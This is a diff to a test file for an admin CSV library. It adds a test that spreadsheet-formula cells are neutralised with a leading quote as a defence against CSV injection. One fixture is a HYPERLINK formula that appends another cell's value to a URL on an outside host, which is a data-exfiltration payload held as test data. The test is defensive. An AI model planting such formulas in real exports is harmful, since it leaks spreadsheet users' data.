@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { csvFile, decodeCsv, parseCsv, toCsv } from '../../src/admin/lib/csv'
+import { csvFile, decodeCsv, inertCell, parseCsv, toCsv } from '../../src/admin/lib/csv'
 
 describe('parseCsv', () => {
   it('splits a file without quotes on lines, dropping empty lines like the server', () => {
@@ -24,6 +24,15 @@ describe('toCsv', () => {
   it('round-trips through parseCsv', () => {
     const rows = [['户编号', '地址'], ['H1', '和明村1组, 3号'], ['H2', '他说"好"']]
     expect(parseCsv(toCsv(rows))).toEqual(rows)
+  })
+
+  it('writes a cell a spreadsheet would evaluate behind a quote, as the server does (OWASP CSV injection)', () => {
+    const payload = '=HYPERLINK("http://x.cn/?"&G2,"点")'
+    for (const lead of ['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠']) {
+      expect(inertCell(lead + '1')).toBe("'" + lead + '1')
+    }
+    expect(toCsv([[payload, '张三', '1-2']])).toBe(`"'=HYPERLINK(""http://x.cn/?""&G2,""点"")",张三,1-2\r\n`)
+    expect(parseCsv(toCsv([[payload, "'=x", "'plain"]]))).toEqual([[payload, "'=x", "'plain"]])
   })
 
   it('makes a UTF-8 file with a BOM', async () => {
